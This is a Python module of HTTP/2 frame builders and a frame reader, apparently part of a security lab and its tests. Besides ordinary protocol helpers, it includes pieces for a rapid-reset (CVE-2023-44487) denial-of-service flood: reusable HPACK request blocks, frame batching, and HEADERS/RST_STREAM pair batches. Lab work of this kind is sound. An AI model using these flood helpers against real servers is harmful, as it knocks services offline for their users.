"""HTTP/2 frames as bytes, for attack clients (labs/attacks.py) and tests: builders and an incremental reader.

Sans-IO: nothing here touches a socket. Builders pack the 9-byte frame header themselves (RFC 9113 4.1) so a
flood can repeat one precomputed frame cheaply; tests check them against hyperframe's parser.
"""

from __future__ import annotations

import struct
from collections.abc import Iterator, Sequence
from dataclasses import dataclass

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types and flags (RFC 9113 6).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
# Settings and error codes.
SETTINGS_HEADER_TABLE_SIZE, SETTINGS_MAX_CONCURRENT_STREAMS, SETTINGS_INITIAL_WINDOW_SIZE = 0x1, 0x3, 0x4
NO_ERROR, PROTOCOL_ERROR, REFUSED_STREAM, CANCEL, ENHANCE_YOUR_CALM = 0x0, 0x1, 0x7, 0x8, 0xB
ERROR_NAMES = {0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR", 0x3: "FLOW_CONTROL_ERROR",
               0x4: "SETTINGS_TIMEOUT", 0x5: "STREAM_CLOSED", 0x6: "FRAME_SIZE_ERROR", 0x7: "REFUSED_STREAM",
               0x8: "CANCEL", 0x9: "COMPRESSION_ERROR", 0xA: "CONNECT_ERROR", 0xB: "ENHANCE_YOUR_CALM",
               0xC: "INADEQUATE_SECURITY", 0xD: "HTTP_1_1_REQUIRED"}  # fmt: skip
MAX_STREAM_ID = (1 << 31) - 1


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    if not 0 <= stream_id <= MAX_STREAM_ID:
        raise ValueError(f"stream id {stream_id} out of range")
    if len(payload) >= 1 << 24:
        raise ValueError(f"frame payload of {len(payload)} bytes does not fit a 24-bit length")
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream_id) + payload


def settings(values: dict[int, int] | None = None) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in (values or {}).items()))


def settings_ack() -> bytes:
    return frame(SETTINGS, ACK, 0)


def client_preface(values: dict[int, int] | None = None) -> bytes:
    """The connection preface a client sends first: the magic, then its SETTINGS."""
    return PREFACE + settings(values)


def ping(opaque: bytes = b"planemsh") -> bytes:
    if len(opaque) != 8:
        raise ValueError("PING carries exactly 8 opaque bytes")
    return frame(PING, 0, 0, opaque)


def window_update(stream_id: int, increment: int) -> bytes:
    if not 1 <= increment <= MAX_STREAM_ID:
        raise ValueError(f"window increment {increment} out of range")
    return frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", increment))


def rst_stream(stream_id: int, code: int = CANCEL) -> bytes:
    return frame(RST_STREAM, 0, stream_id, struct.pack(">I", code))


def headers(stream_id: int, block: bytes, *, end_stream: bool = True) -> bytes:
    return frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), stream_id, block)


class RequestBlocks:
    """HPACK blocks for one request repeated on many streams: the first block adds the fields to the peer's
    dynamic table, every later one only refers to them (a few bytes, as real rapid-reset clients send)."""

    def __init__(self, authority: str, path: str, method: str = "GET") -> None:
        fields = [(":method", method), (":scheme", "http"), (":authority", authority), (":path", path)]
        encoder = hpack.Encoder()
        self.first = encoder.encode(fields)
        self.repeat = encoder.encode(fields)
        self._sent_first = False

    def next(self) -> bytes:
        if self._sent_first:
            return self.repeat
        self._sent_first = True
        return self.first


@dataclass(frozen=True)
class Frame:
    kind: int
    flags: int
    stream_id: int
    payload: bytes

    def goaway_code(self) -> int | None:
        return struct.unpack(">I", self.payload[4:8])[0] if self.kind == GOAWAY and len(self.payload) >= 8 else None


class FrameReader:
    """Frames out of a server's byte stream fed in arbitrary pieces (the server preface has no magic).

    Keeps at most one incomplete frame; DATA payloads are counted, not kept."""

    def __init__(self) -> None:
        self._buf = bytearray()
        self.data_bytes = 0

    def feed(self, data: bytes) -> Iterator[Frame]:
        self._buf += data
        while len(self._buf) >= 9:
            length = int.from_bytes(self._buf[0:3], "big")
            if len(self._buf) < 9 + length:
                return
            kind, flags = self._buf[3], self._buf[4]
            stream_id = int.from_bytes(self._buf[5:9], "big") & MAX_STREAM_ID
            payload = b"" if kind == DATA else bytes(self._buf[9 : 9 + length])
            if kind == DATA:
                self.data_bytes += length
            del self._buf[: 9 + length]
            yield Frame(kind, flags, stream_id, payload)


def repeat(one: bytes, count: int) -> bytes:
    """`count` copies of a frame in one buffer: a flood sends whole batches."""
    return one * count


def pairs(stream_ids: Sequence[int], blocks: RequestBlocks, code: int = CANCEL) -> bytes:
    """HEADERS then RST_STREAM for each stream: one batch of a rapid-reset (CVE-2023-44487) flood."""
    return b"".join(headers(sid, blocks.next()) + rst_stream(sid, code) for sid in stream_ids)
